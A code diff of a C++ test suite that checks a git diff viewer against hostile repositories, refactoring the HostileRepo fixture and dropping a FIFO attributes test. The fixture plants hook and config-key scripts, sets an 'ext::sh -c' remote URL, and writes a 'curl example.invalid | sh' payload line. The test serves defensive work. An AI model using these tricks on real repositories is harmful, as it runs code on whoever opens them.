@@ -14,7 +14,6 @@
 
 #include <gtest/gtest.h>
 
-#include <sys/stat.h>
 #include <utime.h>
 
 namespace {
@@ -63,8 +62,6 @@ void writeBase(TestRepo& repo, const HostileCase& c)
 // nothing configured, whose plain diff is what the viewer must show.
 struct HostileRepo
 {
-    explicit HostileRepo(const HostileCase& c);
-
     QTemporaryDir markers;
     QString marker = markers.filePath("ran");
     TestRepo repo;
@@ -72,59 +69,50 @@ struct HostileRepo
     QString file; // what the viewer opens
     QByteArray expectedDiff;
 
-    // Scripts live inside .git, where they are never committed, like an attacker's would in a
-    // repository unpacked from an archive.
-    QString plantScript(const QString& relative, const char* rest)
+    explicit HostileRepo(const HostileCase& c)
     {
-        repo.write(relative, QStringLiteral("#!/bin/sh\necho ran >> '%1'\n%2\n").arg(marker, rest).toUtf8());
-        QFile::setPermissions(repo.path(relative), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
-        return repo.path(relative);
-    }
-};
-
-HostileRepo::HostileRepo(const HostileCase& c)
-{
-    if (c.twist == Twist::PromisorFetch) {
-        // A server with the blob, and a blobless clone that only knows its name.
         writeBase(twin, c);
         twin.commitAll();
-        twin.plumb({"config", "uploadpack.allowFilter", "true"});
-        const QString clone = repo.path("clone");
-        repo.plumb({"clone", "-q", "--filter=blob:none", "--no-checkout", "file://" + twin.root(), clone});
-        repo.plumb({"-C", clone, "read-tree", "HEAD"});
-        repo.plumb({"-C", clone, "config", "protocol.ext.allow", "always"});
-        repo.plumb({"-C", clone, "config", "remote.origin.url", "ext::sh -c echo% ran% >>" + marker});
-        repo.write("clone/" + kPayload, "echo pwned\n");
-        file = repo.path("clone/" + kPayload);
-        return; // the blob cannot be fetched, so there is nothing to compare with: no diff
-    }
-    writeBase(repo, c);
-    repo.commitAll();
-    if (c.configKey) {
-        const QString script = plantScript(".git/evil/script", c.scriptRest);
-        repo.plumb({"config", QString::fromUtf8(c.configKey), script});
-    }
-    writeBase(twin, c);
-    twin.commitAll();
-    file = repo.path(kPayload);
-    if (c.twist == Twist::IndexHook) {
-        plantScript(".git/hooks/post-index-change", "");
-        // Same content, newer time: a refresh rewrites the index, which fires the hook.
-        struct utimbuf past
-        {
+        if (c.twist == Twist::PromisorFetch) {
+            // The twin serves the blob; a blobless clone only knows its name.
+            twin.plumb({"config", "uploadpack.allowFilter", "true"});
+            const QString clone = repo.path("clone");
+            repo.plumb(
+                {"clone", "-q", "--filter=blob:none", "--no-checkout", "file://" + twin.root(), clone});
+            repo.plumb({"-C", clone, "read-tree", "HEAD"});
+            repo.plumb({"-C", clone, "config", "protocol.ext.allow", "always"});
+            repo.plumb({"-C", clone, "config", "remote.origin.url", "ext::sh -c echo% ran% >>" + marker});
+            file = repo.write("clone/" + kPayload, "echo pwned\n");
+            return; // the blob cannot be fetched, so there is nothing to compare with: no diff
+        }
+        writeBase(repo, c);
+        repo.commitAll();
+        // Scripts live inside .git, where they are never committed, like an attacker's would in a
+        // repository unpacked from an archive.
+        const auto plantScript = [&](const QString& relative, const char* rest) {
+            return repo.writeProgram(
+                relative, QStringLiteral("#!/bin/sh\necho ran >> '%1'\n%2\n").arg(marker, rest).toUtf8());
         };
-        past.actime = past.modtime = 1000000000;
-        ::utime(QFile::encodeName(file).constData(), &past);
-        repo.plumb({"update-index", "--refresh"});
-        ::utime(QFile::encodeName(file).constData(), nullptr);
-        return;
+        if (c.configKey)
+            repo.plumb(
+                {"config", QString::fromUtf8(c.configKey), plantScript(".git/evil/script", c.scriptRest)});
+        file = repo.path(kPayload);
+        if (c.twist == Twist::IndexHook) {
+            plantScript(".git/hooks/post-index-change", "");
+            // Same content, newer time: a refresh rewrites the index, which fires the hook.
+            const utimbuf past{1000000000, 1000000000};
+            ::utime(QFile::encodeName(file).constData(), &past);
+            repo.plumb({"update-index", "--refresh"});
+            ::utime(QFile::encodeName(file).constData(), nullptr);
+            return;
+        }
+        const QByteArray modified = c.twist == Twist::CrlfFile ? "echo pwned\r\ncurl example.invalid | sh\r\n"
+                                                               : "echo pwned\ncurl example.invalid | sh\n";
+        repo.write(kPayload, modified);
+        twin.write(kPayload, modified);
+        expectedDiff = twin.plainDiff(kPayload);
     }
-    const QByteArray modified = c.twist == Twist::CrlfFile ? "echo pwned\r\ncurl example.invalid | sh\r\n"
-                                                           : "echo pwned\ncurl example.invalid | sh\n";
-    repo.write(kPayload, modified);
-    twin.write(kPayload, modified);
-    expectedDiff = twin.plainDiff(kPayload);
-}
+};
 
 TEST(ViewerHostileRepo, LoaderRunsNoRepositoryProgramAndStillShowsTheDiff)
 {
@@ -170,19 +158,6 @@ TEST(ViewerHostileRepo, TreeWithALinkAndAFolderOfOneNameWritesNothingOutside)
     EXPECT_EQ(QDir(outside.root()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
               QStringList{"authorized_keys"});
     EXPECT_EQ(diff, nestedTreeNote("x"));
-}
-
-// A .gitattributes that is a FIFO holds `git check-attr` until someone writes to it; the diff must
-// still come, without the attributes, rather than time out as a whole.
-TEST(ViewerHostileRepo, AttributesFileThatIsAFifoDoesNotHoldUpTheDiff)
-{
-    TestRepo repo;
-    repo.init();
-    repo.write("notes.txt", "one\n");
-    repo.commitAll();
-    repo.write("notes.txt", "one\ntwo\n");
-    ASSERT_EQ(::mkfifo(QFile::encodeName(repo.path(".gitattributes")).constData(), 0600), 0);
-    EXPECT_TRUE(loadGitDiff(repo.path("notes.txt")).endsWith("\n one\n+two\n"));
 }
 
 } // namespace
